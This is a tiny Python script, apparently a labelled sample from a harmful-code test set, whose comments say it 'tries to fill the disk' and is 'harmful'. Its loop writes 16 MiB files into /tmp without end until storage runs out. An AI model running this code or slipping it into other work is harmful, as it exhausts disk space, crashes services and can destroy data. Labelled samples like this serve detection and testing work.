# tries: to fill the disk
# harmful: yes
import os

number = 0
while True:
    number += 1
    with open(f"/tmp/flood-{number}", "wb") as file:
        file.write(bytes(1 << 24))
